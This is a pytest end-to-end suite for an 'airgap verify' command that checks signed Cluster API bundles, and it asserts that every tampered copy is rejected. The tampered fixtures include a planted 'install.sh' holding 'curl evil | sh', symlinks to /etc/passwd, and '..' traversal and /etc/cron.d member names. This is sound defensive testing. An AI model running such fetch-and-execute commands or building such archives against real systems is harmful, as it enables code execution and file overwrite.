"""``airgap verify`` end to end: the good CAPI bundle passes, every tampered copy fails.

The tampered corpus is built here from the collected bundle (``tests/harness/tamper.py``),
one way of breaking it per case. Every case runs the real CLI and must exit 1, report
``verified: false`` and name the member, image, provider or rule at fault.
"""

from __future__ import annotations

import dataclasses
import hashlib
import json
import subprocess
import sys
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from airgap.bundle.format import MANIFEST_NAME, SIGNATURE_NAME, ProviderRecord, blob_member
from airgap.bundle.manifest import BundleManifest
from airgap.bundle.signing import fingerprint, load_public_key
from tests.harness import skopeo, tamper
from tests.harness.bundle_fixtures import CollectedBundle, SigningKey
from tests.harness.capi import write_spec
from tests.harness.cli import AIRGAP, assert_clean_failure, run_airgap
from tests.harness.images import OciLayout, TestImage, make_big_image, push_image
from tests.harness.registry import RegistryFactory
from tests.harness.releases import make_metadata

INDEX_JSON = "images/index.json"
OCI_LAYOUT = "images/oci-layout"


@dataclass(frozen=True)
class Corpus:
    """The good bundle and the names the tamper cases aim at."""

    good: Path
    key: SigningKey
    fingerprint: str
    untrusted: Path  # a private key nobody trusts
    manifest: BundleManifest
    app: TestImage  # single-arch OCI image, with a layer no other image has
    app_layer: str  # that layer's member name
    multi: TestImage  # OCI index, linux/amd64 + linux/arm64/v8
    dockerlist: TestImage  # Docker manifest list
    core: ProviderRecord
    docker: ProviderRecord
    odd: ProviderRecord
    last_blob: str  # the last member of the archive

    def provider(self, record: ProviderRecord) -> str:
        return f"{record.type}/{record.name} {record.version}"


@pytest.fixture(scope="module")
def corpus(capi_bundle: CollectedBundle, tmp_path_factory: pytest.TempPathFactory) -> Corpus:
    images = capi_bundle.providers.images
    by_suffix = {ref.rsplit("/", 1)[1]: image for ref, image in images.items()}
    app = by_suffix["app:v1"]
    others = set().union(*(i.layer_digests for i in images.values() if i is not app))
    (unique,) = app.layer_digests - others
    providers = {
        p.name if p.name != "kubeadm" else p.type: p for p in capi_bundle.manifest.providers
    }
    untrusted, _ = tamper.new_key(tmp_path_factory.mktemp("untrusted"))
    names = list(tamper.spans(capi_bundle.path))
    return Corpus(
        good=capi_bundle.path,
        key=capi_bundle.key,
        fingerprint=fingerprint(load_public_key(capi_bundle.key.public)),
        untrusted=untrusted,
        manifest=capi_bundle.manifest,
        app=app,
        app_layer=blob_member(unique),
        multi=by_suffix["multi:v1"],
        dockerlist=by_suffix["dockerlist:v1"],
        core=providers["cluster-api"],
        docker=providers["docker"],
        odd=providers["odd"],
        last_blob=names[-1],
    )


def verify_json(bundle: Path, *args: str | Path) -> tuple[subprocess.CompletedProcess[str], Any]:
    result = run_airgap("verify", bundle, *args, "--format", "json")
    assert "Traceback" not in result.stderr, result.stderr
    return result, json.loads(result.stdout)


def has_failure(report: dict[str, Any], kind: str, subject: str, message: str = "") -> bool:
    return any(
        f["kind"] == kind and subject in f["subject"] and message in f["message"]
        for f in report["failures"]
    )


# -- the good bundle ----------------------------------------------------------------------


@pytest.mark.e2e
def test_untouched_bundle_verifies(corpus: Corpus, tmp_path: Path) -> None:
    before = sorted(corpus.good.parent.iterdir())
    result = run_airgap(
        "verify", corpus.good, "--key", corpus.key.public, env={"TMPDIR": str(tmp_path)}
    )
    assert result.returncode == 0, result.stdout + result.stderr
    assert result.stderr == ""
    lines = result.stdout.splitlines()
    assert lines[0].startswith(f"Bundle verified: signed by {corpus.fingerprint}, ")
    assert lines[0].startswith("Bundle verified: signed by SHA256:")
    assert ", 5 providers, 5 images, " in lines[0] and lines[0].endswith("KiB")
    for provider in corpus.manifest.providers:
        assert any(provider.name in line and provider.version in line for line in lines)
    for image in corpus.manifest.images:
        # digests cut to 12 hex digits, as the table fits 100 columns (--wide: whole)
        short = image.digest[: len("sha256:") + 12]
        assert any(line.startswith(image.reference) and short in line for line in lines)
    assert "Failures" not in result.stdout
    # nothing extracted, nothing left behind
    assert sorted(corpus.good.parent.iterdir()) == before
    assert list(tmp_path.iterdir()) == []


@pytest.mark.e2e
def test_untouched_bundle_json_report(corpus: Corpus) -> None:
    result, report = verify_json(corpus.good, "--key", corpus.key.public)
    assert result.returncode == 0, result.stderr
    assert report["verified"] is True
    assert report["signature"] == corpus.fingerprint
    assert report["signatureChecked"] is True
    assert report["failures"] == [] and report["policy"] == []
    assert [p["name"] for p in report["providers"]] == [p.name for p in corpus.manifest.providers]
    assert {i["reference"]: i["digest"] for i in report["images"]} == {
        i.reference: i.digest for i in corpus.manifest.images
    }
    multi = next(i for i in report["images"] if i["reference"] == corpus.multi.reference)
    assert multi["platforms"] == ["linux/amd64", "linux/arm64/v8"]


@pytest.mark.integration
def test_harness_round_trip_is_byte_identical(corpus: Corpus, tmp_path: Path) -> None:
    """So each tamper case changes exactly what it says and nothing else."""
    copy = tamper.rewrite(corpus.good, tmp_path / "copy.tar", lambda members: members)
    assert copy.read_bytes() == corpus.good.read_bytes()


@pytest.mark.integration
def test_manifest_bytes_are_read_again_and_checked(corpus: Corpus, tmp_path: Path) -> None:
    """A verified bundle does not hold its manifest's bytes: asked for, they are read
    again and must still be the bytes that were verified."""
    from airgap.core.errors import BundleError
    from airgap.verify.bundle import verify_bundle

    copy = tmp_path / "copy.tar"
    copy.write_bytes(corpus.good.read_bytes())
    signed = tamper.read_members(copy)[0].data
    verified = verify_bundle(copy, [load_public_key(corpus.key.public)])
    try:
        assert verified.verified
        assert verified.manifest_bytes == signed
        assert verified.manifest_sha256 == hashlib.sha256(signed).hexdigest()
        assert verified.manifest_at is not None
        with copy.open("r+b") as handle:  # same size, one byte of the manifest changed
            handle.seek(verified.manifest_at[0] + 20)
            handle.write(b"X")
        with pytest.raises(BundleError, match="airgap-bundle.json changed after it was verified"):
            _ = verified.manifest_bytes
    finally:
        verified.close()


# -- keys ---------------------------------------------------------------------------------


@pytest.mark.e2e
def test_second_trusted_key_is_the_signer(corpus: Corpus, tmp_path: Path) -> None:
    _, other = tamper.new_key(tmp_path, "other")
    for keys in ([other, corpus.key.public], [corpus.key.public, other]):
        args = [a for key in keys for a in ("--key", key)]
        result, report = verify_json(corpus.good, *args)
        assert result.returncode == 0, result.stdout
        assert report["verified"] is True
        assert report["signature"] == corpus.fingerprint


@pytest.mark.e2e
def test_only_an_untrusted_key_fails(corpus: Corpus, tmp_path: Path) -> None:
    _, other = tamper.new_key(tmp_path, "other")
    result, report = verify_json(corpus.good, "--key", other)
    assert result.returncode == 1
    assert report["verified"] is False and report["signature"] is None
    other_fingerprint = fingerprint(load_public_key(other))
    assert has_failure(report, "signature", SIGNATURE_NAME, other_fingerprint)


@pytest.mark.e2e
def test_no_key_is_refused(corpus: Corpus) -> None:
    result = run_airgap("verify", corpus.good)
    assert_clean_failure(result, 2, "no trusted key", "--key", "--no-signature")
    assert result.stdout == ""


@pytest.mark.e2e
def test_key_and_no_signature_together_are_refused(corpus: Corpus) -> None:
    result = run_airgap("verify", corpus.good, "--key", corpus.key.public, "--no-signature")
    assert_clean_failure(result, 2, "--key", "--no-signature")


@pytest.mark.e2e
def test_no_signature_passes_loudly(corpus: Corpus) -> None:
    text = run_airgap("verify", corpus.good, "--no-signature")
    assert text.returncode == 0, text.stderr
    assert "WARNING" in text.stderr and "NOT" in text.stderr and "authenticity" in text.stderr
    verdict = text.stdout.splitlines()[0]
    assert verdict.startswith("Bundle verified: SIGNATURE NOT CHECKED")
    assert "authenticity unknown" in verdict
    result, report = verify_json(corpus.good, "--no-signature")
    assert result.returncode == 0
    assert report["verified"] is True
    assert report["signatureChecked"] is False and report["signature"] is None
    assert "WARNING" in result.stderr


@pytest.mark.e2e
def test_no_signature_still_checks_contents(corpus: Corpus, tmp_path: Path) -> None:
    bundle = tamper.flip_byte(corpus.good, tmp_path / "x.tar", corpus.app_layer)
    result, report = verify_json(bundle, "--no-signature")
    assert result.returncode == 1
    assert report["verified"] is False
    assert has_failure(report, "member", corpus.app_layer, "does not match")


@pytest.mark.e2e
def test_missing_bundle_is_a_usage_error(corpus: Corpus, tmp_path: Path) -> None:
    missing = tmp_path / "nope.tar"
    result = run_airgap("verify", missing, "--key", corpus.key.public)
    assert_clean_failure(result, 2, str(missing))


@pytest.mark.e2e
def test_missing_or_bad_key_file_is_a_usage_error(corpus: Corpus, tmp_path: Path) -> None:
    missing = tmp_path / "nokey.pub"
    assert_clean_failure(run_airgap("verify", corpus.good, "--key", missing), 2, "nokey.pub")
    garbage = tmp_path / "garbage.pub"
    garbage.write_text("not a key\n")
    assert_clean_failure(run_airgap("verify", corpus.good, "--key", garbage), 2, "garbage.pub")
    # a private key is not a public key
    result = run_airgap("verify", corpus.good, "--key", corpus.key.private)
    assert_clean_failure(result, 2, str(corpus.key.private))


# -- the tampered corpus ------------------------------------------------------------------

Expect = tuple[str, str, str]  # kind, text in subject, text in message
Build = Callable[[Corpus, Path], list[Expect]]
CASES: dict[str, Build] = {}


def case(build: Build) -> Build:
    CASES[build.__name__.replace("_", "-")] = build
    return build


def _digest(member: str) -> str:
    return "sha256:" + member.rsplit("/", 1)[1]


@case
def layer_blob_byte_flipped(c: Corpus, out: Path) -> list[Expect]:
    tamper.flip_byte(c.good, out, c.app_layer)
    return [
        ("member", c.app_layer, "does not match the manifest"),
        ("image", c.app.reference, f"blob {_digest(c.app_layer)} is missing or damaged"),
    ]


@case
def image_manifest_byte_flipped(c: Corpus, out: Path) -> list[Expect]:
    tamper.flip_byte(c.good, out, blob_member(c.app.digest))
    return [
        ("member", blob_member(c.app.digest), "does not match the manifest"),
        ("image", c.app.reference, f"manifest {c.app.digest} is missing or damaged"),
    ]


@case
def multiarch_index_byte_flipped(c: Corpus, out: Path) -> list[Expect]:
    tamper.flip_byte(c.good, out, blob_member(c.multi.digest))
    return [
        ("member", blob_member(c.multi.digest), "does not match the manifest"),
        ("image", c.multi.reference, f"manifest {c.multi.digest} is missing or damaged"),
    ]


@case
def docker_manifest_list_byte_flipped(c: Corpus, out: Path) -> list[Expect]:
    tamper.flip_byte(c.good, out, blob_member(c.dockerlist.digest))
    return [
        ("member", blob_member(c.dockerlist.digest), "does not match the manifest"),
        ("image", c.dockerlist.reference, f"manifest {c.dockerlist.digest}"),
    ]


@case
def platform_manifest_byte_flipped(c: Corpus, out: Path) -> list[Expect]:
    child = c.multi.child_digests[1]
    tamper.flip_byte(c.good, out, blob_member(child))
    return [
        ("member", blob_member(child), "does not match the manifest"),
        ("image", c.multi.reference, f"manifest {child} is missing or damaged"),
    ]


@case
def layout_index_json_byte_flipped(c: Corpus, out: Path) -> list[Expect]:
    tamper.flip_byte(c.good, out, INDEX_JSON)
    return [
        ("member", INDEX_JSON, "does not match the manifest"),
        ("layout", INDEX_JSON, "is missing or damaged"),
    ]


@case
def oci_layout_file_byte_flipped(c: Corpus, out: Path) -> list[Expect]:
    tamper.flip_byte(c.good, out, OCI_LAYOUT)
    return [
        ("member", OCI_LAYOUT, "does not match the manifest"),
        ("layout", OCI_LAYOUT, "is missing or damaged"),
    ]


@case
def components_byte_flipped(c: Corpus, out: Path) -> list[Expect]:
    tamper.flip_byte(c.good, out, c.core.components)
    return [
        ("member", c.core.components, "does not match the manifest"),
        ("provider", c.provider(c.core), f"{c.core.components} is missing or damaged"),
    ]


@case
def metadata_byte_flipped(c: Corpus, out: Path) -> list[Expect]:
    tamper.flip_byte(c.good, out, c.docker.metadata)
    return [
        ("member", c.docker.metadata, "does not match the manifest"),
        ("provider", c.provider(c.docker), f"{c.docker.metadata} is missing or damaged"),
    ]


@case
def bundle_manifest_byte_flipped(c: Corpus, out: Path) -> list[Expect]:
    tamper.flip_byte(c.good, out, MANIFEST_NAME)
    return [("signature", SIGNATURE_NAME, f"does not verify {MANIFEST_NAME}")]


@case
def bundle_manifest_record_edited(c: Corpus, out: Path) -> list[Expect]:
    """Still valid JSON: the recorded sha256 of a layer is swapped for another's."""
    members = tamper.read_members(c.good)
    manifest = members[0].data
    wrong = hashlib.sha256(b"something else").hexdigest()
    recorded = f'"sha256": "{c.app_layer.rsplit("/", 1)[1]}"'.encode()
    assert manifest.count(recorded) == 1
    edited = manifest.replace(recorded, f'"sha256": "{wrong}"'.encode())
    assert edited != manifest and len(edited) == len(manifest)
    tamper.replace_data(c.good, out, MANIFEST_NAME, edited)
    # an altered manifest is judged by its signature alone: nothing it says is used
    return [("signature", SIGNATURE_NAME, "altered")]


@case
def signature_byte_flipped(c: Corpus, out: Path) -> list[Expect]:
    tamper.flip_byte(c.good, out, SIGNATURE_NAME, offset=10)
    return [("signature", SIGNATURE_NAME, "")]


@case
def signature_not_base64(c: Corpus, out: Path) -> list[Expect]:
    tamper.replace_data(c.good, out, SIGNATURE_NAME, b"this is not a signature!\n")
    return [("signature", SIGNATURE_NAME, "not valid base64")]


@case
def layer_blob_removed(c: Corpus, out: Path) -> list[Expect]:
    tamper.drop(c.good, out, c.app_layer)
    return [
        ("member", c.app_layer, "is listed in the manifest but missing"),
        ("image", c.app.reference, f"blob {_digest(c.app_layer)} is missing"),
    ]


@case
def components_file_removed(c: Corpus, out: Path) -> list[Expect]:
    tamper.drop(c.good, out, c.docker.components)
    return [
        ("member", c.docker.components, "is listed in the manifest but missing"),
        ("provider", c.provider(c.docker), c.docker.components),
    ]


@case
def bundle_manifest_removed(c: Corpus, out: Path) -> list[Expect]:
    tamper.drop(c.good, out, MANIFEST_NAME)
    return [("member", MANIFEST_NAME, "is missing")]


@case
def signature_removed(c: Corpus, out: Path) -> list[Expect]:
    tamper.drop(c.good, out, SIGNATURE_NAME)
    return [("member", SIGNATURE_NAME, "is missing")]


@case
def blob_added(c: Corpus, out: Path) -> list[Expect]:
    data = b"an extra layer nobody signed\n"
    name = blob_member(skopeo.digest_of(data))
    tamper.insert(c.good, out, tamper.regular(name, data))
    return [("member", name, "is not listed in the bundle manifest")]


@case
def file_added_at_the_end(c: Corpus, out: Path) -> list[Expect]:
    tamper.insert(c.good, out, tamper.regular("install.sh", b"curl evil | sh\n"), position=10**6)
    return [("member", "install.sh", "is not listed in the bundle manifest")]


@case
def blob_renamed(c: Corpus, out: Path) -> list[Expect]:
    new = blob_member("sha256:" + "0" * 64)
    tamper.rename(c.good, out, c.app_layer, new)
    return [
        ("member", c.app_layer, "is listed in the manifest but missing"),
        ("member", new, "is not listed in the bundle manifest"),
        ("image", c.app.reference, _digest(c.app_layer)),
    ]


@case
def provider_file_duplicated(c: Corpus, out: Path) -> list[Expect]:
    tamper.duplicate(c.good, out, c.core.components)
    return [("member", c.core.components, "appears more than once")]


@case
def blob_duplicated_with_other_bytes(c: Corpus, out: Path) -> list[Expect]:
    tamper.duplicate(c.good, out, c.app_layer, data=b"what an extracting reader would keep\n")
    return [("member", c.app_layer, "appears more than once")]


@case
def bundle_manifest_duplicated(c: Corpus, out: Path) -> list[Expect]:
    tamper.duplicate(c.good, out, MANIFEST_NAME)
    return [("member", MANIFEST_NAME, "appears more than once")]


@case
def symlink_member(c: Corpus, out: Path) -> list[Expect]:
    name = "providers/cluster-api/v1.9.4/passwd"
    tamper.insert(c.good, out, tamper.symlink(name, "/etc/passwd"))
    return [("member", name, "is a symlink (to /etc/passwd)")]


@case
def blob_replaced_by_symlink(c: Corpus, out: Path) -> list[Expect]:
    target = blob_member(c.app.digest)
    tamper.replace_with(c.good, out, c.app_layer, tamper.symlink(c.app_layer, target))
    return [
        ("member", c.app_layer, "is a symlink"),
        ("image", c.app.reference, _digest(c.app_layer)),
    ]


@case
def hardlink_member(c: Corpus, out: Path) -> list[Expect]:
    name = "images/blobs/sha256/hardlinked"
    tamper.insert(c.good, out, tamper.hardlink(name, MANIFEST_NAME))
    return [("member", name, f"is a hardlink (to {MANIFEST_NAME})")]


@case
def char_device_member(c: Corpus, out: Path) -> list[Expect]:
    tamper.insert(c.good, out, tamper.char_device("images/null"))
    return [("member", "images/null", "is a device file")]


@case
def block_device_member(c: Corpus, out: Path) -> list[Expect]:
    tamper.insert(c.good, out, tamper.block_device("images/sda"))
    return [("member", "images/sda", "is a device file")]


@case
def fifo_member(c: Corpus, out: Path) -> list[Expect]:
    tamper.insert(c.good, out, tamper.fifo("images/pipe"))
    return [("member", "images/pipe", "is a FIFO")]


@case
def absolute_path_member(c: Corpus, out: Path) -> list[Expect]:
    tamper.insert(c.good, out, tamper.regular("/etc/cron.d/airgap"))
    return [("member", "/etc/cron.d/airgap", "has an absolute path")]


@case
def dotdot_member(c: Corpus, out: Path) -> list[Expect]:
    tamper.insert(c.good, out, tamper.regular("../escape.sh"))
    return [("member", "../escape.sh", "has a '..' path component")]


@case
def dotdot_inside_member(c: Corpus, out: Path) -> list[Expect]:
    name = "images/blobs/../../../home/user/.bashrc"
    tamper.insert(c.good, out, tamper.regular(name))
    return [("member", name, "has a '..' path component")]


@case
def dotdot_directory_member(c: Corpus, out: Path) -> list[Expect]:
    tamper.insert(c.good, out, tamper.directory("../outside/"))
    return [("member", "../outside", "has a '..' path component")]


@case
def non_utf8_member_name(c: Corpus, out: Path) -> list[Expect]:
    tamper.insert(c.good, out, tamper.regular("images/blob-\udcff"))
    return [("member", "images/blob-\\udcff", "not valid UTF-8")]


@case
def control_character_member_name(c: Corpus, out: Path) -> list[Expect]:
    tamper.insert(c.good, out, tamper.regular("images/fake\nmember: fine"))
    return [("member", "images/fake\\nmember", "control characters")]


@case
def unnormalised_member_name(c: Corpus, out: Path) -> list[Expect]:
    tamper.insert(c.good, out, tamper.regular("images/./blobs//x"))
    return [("member", "images/./blobs//x", "not normalised")]


@case
def member_larger_than_declared(c: Corpus, out: Path) -> list[Expect]:
    data = tamper.read_members(c.good)
    original = next(m.data for m in data if m.name == c.core.components)
    tamper.replace_data(c.good, out, c.core.components, original + b"\n# extra\n")
    return [
        ("member", c.core.components, f"bytes, the manifest says {len(original)}"),
    ]


@case
def truncated_inside_a_payload(c: Corpus, out: Path) -> list[Expect]:
    span = tamper.spans(c.good)[c.last_blob]
    tamper.truncate(c.good, out, span.data + span.size // 2)
    return [("tar", c.last_blob, "is truncated"), ("tar", "archive", "truncated")]


@case
def truncated_at_a_member_boundary(c: Corpus, out: Path) -> list[Expect]:
    tamper.truncate(c.good, out, tamper.spans(c.good)[c.app_layer].header)
    return [
        ("tar", "archive", "without an end-of-archive marker"),
        ("member", c.app_layer, "is listed in the manifest but missing"),
        ("member", c.last_blob, "is listed in the manifest but missing"),
    ]


@case
def truncated_inside_a_header(c: Corpus, out: Path) -> list[Expect]:
    tamper.truncate(c.good, out, tamper.spans(c.good)[c.app_layer].header + 100)
    return [("tar", "archive", "partial tar header"), ("member", c.app_layer, "missing")]


@case
def truncated_end_marker(c: Corpus, out: Path) -> list[Expect]:
    tamper.truncate(c.good, out, tamper.archive_end(c.good))
    return [("tar", "archive", f"ends after member {len(tamper.spans(c.good))} ")]


@case
def truncated_inside_the_bundle_manifest(c: Corpus, out: Path) -> list[Expect]:
    span = tamper.spans(c.good)[MANIFEST_NAME]
    tamper.truncate(c.good, out, span.data + 1000)
    return [("tar", MANIFEST_NAME, "is truncated")]


@case
def corrupt_member_header(c: Corpus, out: Path) -> list[Expect]:
    tamper.corrupt_header(c.good, out, c.app_layer)
    return [
        ("tar", "archive", "corrupt tar header"),
        ("member", c.app_layer, "is listed in the manifest but missing"),
    ]


@case
def data_after_the_end_marker(c: Corpus, out: Path) -> list[Expect]:
    hidden = tamper.write_members(out.with_suffix(".hidden"), [tamper.regular("x.sh")])
    tamper.append_after_end(c.good, out, hidden.read_bytes())
    return [("tar", "archive", "data after the end-of-archive marker")]


@case
def not_a_tar_at_all(c: Corpus, out: Path) -> list[Expect]:
    out.write_bytes(b"PK\x03\x04 this is a zip file, not a bundle\n" * 40)
    return [("tar", out.name, "is not a readable tar archive")]


@case
def empty_file(c: Corpus, out: Path) -> list[Expect]:
    out.write_bytes(b"")
    return [("tar", out.name, "is not a readable tar archive")]


@case
def resigned_by_an_untrusted_key(c: Corpus, out: Path) -> list[Expect]:
    tamper.resign_as_is(c.good, out, c.untrusted)
    return [("signature", SIGNATURE_NAME, "untrusted key signed it")]


@case
def edited_consistently_and_resigned_by_an_untrusted_key(c: Corpus, out: Path) -> list[Expect]:
    tamper.resign(c.good, out, c.untrusted, drop=[c.app_layer])
    # nothing beyond an untrusted manifest is read, so its omissions go unreported
    return [("signature", SIGNATURE_NAME, "untrusted key signed it")]


@case
def image_blobs_missing_resigned_by_the_trusted_key(c: Corpus, out: Path) -> list[Expect]:
    tamper.resign(c.good, out, c.key.private, drop=[c.app_layer])
    return [("image", c.app.reference, f"blob {_digest(c.app_layer)} is not in the bundle")]


@case
def index_missing_resigned_by_the_trusted_key(c: Corpus, out: Path) -> list[Expect]:
    tamper.resign(c.good, out, c.key.private, drop=[blob_member(c.multi.digest)])
    return [("image", c.multi.reference, f"manifest {c.multi.digest} is not in the bundle")]


@case
def platform_manifest_missing_resigned_by_the_trusted_key(c: Corpus, out: Path) -> list[Expect]:
    child = c.dockerlist.child_digests[0]
    tamper.resign(c.good, out, c.key.private, drop=[blob_member(child)])
    return [("image", c.dockerlist.reference, f"manifest {child} is not in the bundle")]


@case
def image_not_in_the_layout_resigned_by_the_trusted_key(c: Corpus, out: Path) -> list[Expect]:
    ghost = c.app.reference.replace("/test/app:", "/test/ghost:")

    def edit(manifest: BundleManifest) -> BundleManifest:
        app = next(i for i in manifest.images if i.reference == c.app.reference)
        extra = dataclasses.replace(app, reference=ghost)
        return dataclasses.replace(manifest, images=[*manifest.images, extra])

    tamper.resign(c.good, out, c.key.private, edit=edit)
    return [("image", ghost, f"is not named in {INDEX_JSON}")]


@case
def index_json_names_another_digest(c: Corpus, out: Path) -> list[Expect]:
    index = json.loads(tamper.member_data(c.good, INDEX_JSON))
    sidecar = next(i for i in c.manifest.images if "sidecar" in i.reference)
    for entry in index["manifests"]:
        if entry["annotations"]["org.opencontainers.image.ref.name"] == c.app.reference:
            entry["digest"] = sidecar.digest
    data = json.dumps(index, indent=2).encode() + b"\n"
    tamper.resign(c.good, out, c.key.private, replace={INDEX_JSON: data})
    return [("image", c.app.reference, f"names {sidecar.digest}, the manifest says")]


@case
def layout_names_an_unlisted_image(c: Corpus, out: Path) -> list[Expect]:
    dropped = next(i for i in c.manifest.images if "sidecar" in i.reference)

    def edit(manifest: BundleManifest) -> BundleManifest:
        images = [i for i in manifest.images if i.reference != dropped.reference]
        return dataclasses.replace(manifest, images=images)

    tamper.resign(c.good, out, c.key.private, edit=edit)
    return [
        ("layout", INDEX_JSON, f"names {dropped.reference}, which the manifest does not list"),
        ("provider", "BootstrapProvider/kubeadm", f"needs image {dropped.reference}"),
    ]


@case
def blob_not_named_by_its_digest(c: Corpus, out: Path) -> list[Expect]:
    wrong = blob_member("sha256:" + "e" * 64)
    tamper.resign(c.good, out, c.key.private, rename={c.app_layer: wrong})
    return [
        ("layout", wrong, "blob name does not equal its sha256 digest"),
        ("image", c.app.reference, f"blob {_digest(c.app_layer)} is not in the bundle"),
    ]


def _swap_app_manifest(c: Corpus, out: Path, data: bytes) -> str:
    """Replace the app's manifest by ``data`` everywhere (blob, index.json, manifest)
    and re-sign with the trusted key: only the layout checks can object."""
    digest = skopeo.digest_of(data)
    index = json.loads(tamper.member_data(c.good, INDEX_JSON))
    for entry in index["manifests"]:
        if entry["digest"] == c.app.digest:
            entry["digest"], entry["size"] = digest, len(data)

    def edit(manifest: BundleManifest) -> BundleManifest:
        images = [
            dataclasses.replace(i, digest=digest) if i.digest == c.app.digest else i
            for i in manifest.images
        ]
        return dataclasses.replace(manifest, images=images)

    old = blob_member(c.app.digest)
    tamper.resign(
        c.good,
        out,
        c.key.private,
        replace={old: data, INDEX_JSON: json.dumps(index, indent=2).encode() + b"\n"},
        rename={old: blob_member(digest)},
        edit=edit,
    )
    return digest


@case
def image_manifest_does_not_parse(c: Corpus, out: Path) -> list[Expect]:
    digest = _swap_app_manifest(c, out, b'{"schemaVersion": 2, "layers": [')
    return [("image", c.app.reference, f"manifest {digest} does not parse")]


@case
def image_manifest_descriptor_lies_about_a_size(c: Corpus, out: Path) -> list[Expect]:
    manifest = json.loads(tamper.member_data(c.good, blob_member(c.app.digest)))
    layer = next(x for x in manifest["layers"] if x["digest"] == _digest(c.app_layer))
    real = layer["size"]
    layer["size"] = real + 1
    _swap_app_manifest(c, out, json.dumps(manifest).encode())
    return [
        (
            "image",
            c.app.reference,
            f"blob {_digest(c.app_layer)} is {real} bytes, its descriptor says {real + 1}",
        )
    ]


@case
def image_manifest_points_at_a_missing_blob(c: Corpus, out: Path) -> list[Expect]:
    manifest = json.loads(tamper.member_data(c.good, blob_member(c.app.digest)))
    ghost = "sha256:" + "a" * 64
    manifest["layers"].append(
        {"mediaType": manifest["layers"][0]["mediaType"], "digest": ghost, "size": 1}
    )
    _swap_app_manifest(c, out, json.dumps(manifest).encode())
    return [("image", c.app.reference, f"blob {ghost} is not in the bundle")]


@case
def provider_contract_edited_in_the_manifest(c: Corpus, out: Path) -> list[Expect]:
    def edit(manifest: BundleManifest) -> BundleManifest:
        providers = [
            dataclasses.replace(p, contract="v1beta2") if p == c.docker else p
            for p in manifest.providers
        ]
        return dataclasses.replace(manifest, providers=providers)

    tamper.resign(c.good, out, c.key.private, edit=edit)
    return [
        ("provider", c.provider(c.docker), "says contract v1beta1, the manifest says v1beta2"),
        (
            "provider",
            c.provider(c.docker),
            "contract v1beta2 is not compatible with the core provider's v1beta1",
        ),
    ]


@case
def provider_metadata_lacks_its_version(c: Corpus, out: Path) -> list[Expect]:
    metadata = make_metadata([(1, 8, "v1beta1"), (1, 10, "v1beta1")]).encode()
    tamper.resign(c.good, out, c.key.private, replace={c.docker.metadata: metadata})
    return [("provider", c.provider(c.docker), "declares no contract for v1.9.4")]


@case
def provider_contract_differs_from_the_core(c: Corpus, out: Path) -> list[Expect]:
    metadata = make_metadata([(0, 3, "v1beta2")]).encode()

    def edit(manifest: BundleManifest) -> BundleManifest:
        providers = [
            dataclasses.replace(p, contract="v1beta2") if p == c.odd else p
            for p in manifest.providers
        ]
        return dataclasses.replace(manifest, providers=providers)

    tamper.resign(c.good, out, c.key.private, replace={c.odd.metadata: metadata}, edit=edit)
    # a v1beta2 core accepts v1beta1 providers, never the other way round
    message = "contract v1beta2 is not compatible with the core provider's v1beta1"
    return [("provider", c.provider(c.odd), message)]


@case
def provider_metadata_is_not_yaml(c: Corpus, out: Path) -> list[Expect]:
    tamper.resign(c.good, out, c.key.private, replace={c.core.metadata: b"releaseSeries: [\n"})
    return [("provider", c.provider(c.core), "metadata does not parse")]


@case
def provider_file_outside_its_directory(c: Corpus, out: Path) -> list[Expect]:
    def edit(manifest: BundleManifest) -> BundleManifest:
        providers = [
            dataclasses.replace(p, metadata=c.docker.metadata) if p == c.core else p
            for p in manifest.providers
        ]
        return dataclasses.replace(manifest, providers=providers)

    tamper.resign(c.good, out, c.key.private, edit=edit)
    return [("provider", c.provider(c.core), "is not in providers/cluster-api/v1.9.4/")]


@case
def multiarch_platforms_overstated(c: Corpus, out: Path) -> list[Expect]:
    def edit(manifest: BundleManifest) -> BundleManifest:
        images = [
            dataclasses.replace(i, platforms=[*i.platforms, "linux/s390x"])
            if i.reference == c.multi.reference
            else i
            for i in manifest.images
        ]
        return dataclasses.replace(manifest, images=images)

    tamper.resign(c.good, out, c.key.private, edit=edit)
    return [("image", c.multi.reference, "claims platforms linux/s390x")]


TRUSTED_EDITS = {
    "index-json-names-another-digest",
    "layout-names-an-unlisted-image",
    "blob-not-named-by-its-digest",
    "image-manifest-does-not-parse",
    "image-manifest-descriptor-lies-about-a-size",
    "image-manifest-points-at-a-missing-blob",
    "provider-contract-edited-in-the-manifest",
    "provider-metadata-lacks-its-version",
    "provider-contract-differs-from-the-core",
    "provider-metadata-is-not-yaml",
    "provider-file-outside-its-directory",
    "multiarch-platforms-overstated",
}


@pytest.mark.e2e
@pytest.mark.parametrize("name", list(CASES))
def test_tampered_bundle_is_rejected(name: str, corpus: Corpus, tmp_path: Path) -> None:
    bundle = tmp_path / f"{name}.tar"
    expected = CASES[name](corpus, bundle)
    result, report = verify_json(bundle, "--key", corpus.key.public)
    assert result.returncode == 1, (result.stdout, result.stderr)
    assert result.stderr.startswith("airgap: error: bundle NOT verified: ")  # one line
    assert result.stderr.count("\n") == 1, result.stderr
    assert report["verified"] is False
    assert report["failures"], report
    for kind, subject, message in expected:
        assert has_failure(report, kind, subject, message), (
            (kind, subject, message),
            json.dumps(report["failures"], indent=1),
        )
    if name.endswith("-by-the-trusted-key") or name in TRUSTED_EDITS:
        # signed by the trusted key: only the content checks can catch it
        assert report["signature"] == corpus.fingerprint
        assert not has_failure(report, "signature", "")


@pytest.mark.e2e
def test_trusted_resign_with_missing_blobs_fails_only_on_the_layout(
    corpus: Corpus, tmp_path: Path
) -> None:
    """The manifest and the tar agree and the trusted key signed them: every member
    verifies, and the layout check alone finds the image incomplete."""
    bundle = tamper.resign(
        corpus.good, tmp_path / "b.tar", corpus.key.private, drop=[corpus.app_layer]
    )
    result, report = verify_json(bundle, "--key", corpus.key.public)
    assert result.returncode == 1
    assert report["signature"] == corpus.fingerprint
    assert {f["kind"] for f in report["failures"]} == {"image"}
    assert {f["subject"] for f in report["failures"]} == {corpus.app.reference}


@pytest.mark.e2e
@pytest.mark.parametrize(
    "name",
    [
        "layer-blob-byte-flipped",
        "symlink-member",
        "control-character-member-name",
        "non-utf8-member-name",
        "truncated-inside-a-payload",
        "bundle-manifest-byte-flipped",
        "provider-contract-differs-from-the-core",
    ],
)
def test_text_report_lists_one_failure_per_line(name: str, corpus: Corpus, tmp_path: Path) -> None:
    bundle = tmp_path / f"{name}.tar"
    CASES[name](corpus, bundle)
    _, report = verify_json(bundle, "--key", corpus.key.public)
    result = run_airgap("verify", bundle, "--key", corpus.key.public)
    assert result.returncode == 1 and result.stderr.count("\n") == 1
